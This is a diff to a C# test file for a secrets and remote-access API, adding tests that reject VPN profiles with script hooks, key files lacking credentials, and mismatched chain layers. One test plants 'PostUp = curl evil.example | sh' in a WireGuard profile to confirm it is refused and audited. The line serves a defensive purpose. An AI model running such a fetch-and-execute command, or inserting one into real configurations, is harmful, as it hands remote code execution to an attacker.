@@ -68,6 +68,53 @@ public sealed class AccessEndpointTests : IAsyncLifetime
         await (await _alice.PutAsJsonAsync($"/api/v1/secrets/{Uri.EscapeDataString(name)}",
             new SecretEndpoints.SecretValue(user, "", password))).ProblemAsync(HttpStatusCode.UnprocessableEntity);
 
+    const string Profile = "[Interface]\nPrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\nAddress = 10.0.0.2/24\n[Peer]\n"
+        + "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\nEndpoint = vpn.example:51820\n";
+
+    [Fact]
+    public async Task Profile_WithAScript_IsRefusedByNameAndAudited()
+    {
+        var script = Profile.Replace("[Peer]", "PostUp = curl evil.example | sh\n[Peer]", StringComparison.Ordinal);
+
+        var problem = await (await _alice.PutAsJsonAsync("/api/v1/secrets/site-vpn", new SecretEndpoints.SecretValue(null, null, null, "wireguard", script)))
+            .ProblemAsync(HttpStatusCode.UnprocessableEntity);
+
+        Assert.Contains("cannot be used", problem);
+        var audited = Assert.Single(_node.Get<AuditLog>().Read(new AuditQuery(Action: "profile-refused")));
+        Assert.Equal(("alice", "site-vpn", "wireguard: line 4: `PostUp` runs a program, which no profile may do here; remove the line"),
+            (audited.Actor, audited.Subject, audited.Detail));
+        Assert.Null(_node.Get<SecretStore>().Find("site-vpn"));
+    }
+
+    [Theory]
+    [InlineData("openvpn", "client\ndev tun\nremote a\nauth-user-pass\n<ca>\nx\n</ca>\n", "The profile asks for a user and a password")]
+    [InlineData("ssh-key", "-----BEGIN ENCRYPTED PRIVATE KEY-----\nx\n-----END ENCRYPTED PRIVATE KEY-----\n", "The key is locked")]
+    public async Task File_WithoutWhatBelongsToIt_IsRefused(string kind, string text, string expected)
+    {
+        Assert.Contains(expected, await (await _alice.PutAsJsonAsync("/api/v1/secrets/x", new SecretEndpoints.SecretValue(null, null, null, kind, text)))
+            .ProblemAsync(HttpStatusCode.UnprocessableEntity));
+        await _alice.PutAsJsonAsync("/api/v1/secrets/x", new SecretEndpoints.SecretValue("u", null, "p", kind, text)).OkAsync();
+    }
+
+    [Theory]
+    [InlineData("  - kind: rdp\n    host: h\n    credentials: tunnel\n", "the secret 'tunnel' is of kind wireguard; what fits here is login")]
+    [InlineData("  - kind: vpn\n    profile: jump\n  - kind: rdp\n    host: h\n",
+        "the secret 'jump' is of kind login; what fits here is wireguard or openvpn")]
+    [InlineData("  - kind: vpn\n    profile: tunnel\n    type: openvpn\n  - kind: rdp\n    host: h\n",
+        "the secret 'tunnel' is of kind wireguard; what fits here is openvpn")]
+    [InlineData("  - kind: proxy\n    host: p\n  - kind: vpn\n    profile: tunnel\n  - kind: rdp\n    host: h\n",
+        "the secret 'tunnel' is a WireGuard profile, which sends packets, but layer 1 (proxy) before it carries only connections")]
+    [InlineData("  - kind: vpn\n    profile: nobody\n  - kind: rdp\n    host: h\n", "make it first with `remotechain secret import nobody FILE`")]
+    public async Task Chain_WithASecretThatDoesNotFit_IsRefused(string layers, string expected)
+    {
+        await _alice.PutAsJsonAsync("/api/v1/secrets/tunnel", new SecretEndpoints.SecretValue(null, null, null, "wireguard", Profile)).OkAsync();
+
+        using var answer = await _alice.PutYamlAsync("/api/v1/chains/other", "name: other\nlayers:\n" + layers);
+
+        Assert.Equal(HttpStatusCode.UnprocessableEntity, answer.StatusCode);
+        Assert.Contains(expected, System.Text.RegularExpressions.Regex.Unescape(await answer.Content.ReadAsStringAsync()));
+    }
+
     [Fact]
     public async Task Users_AddedWithoutPassword_GetOneThatWorks()
     {
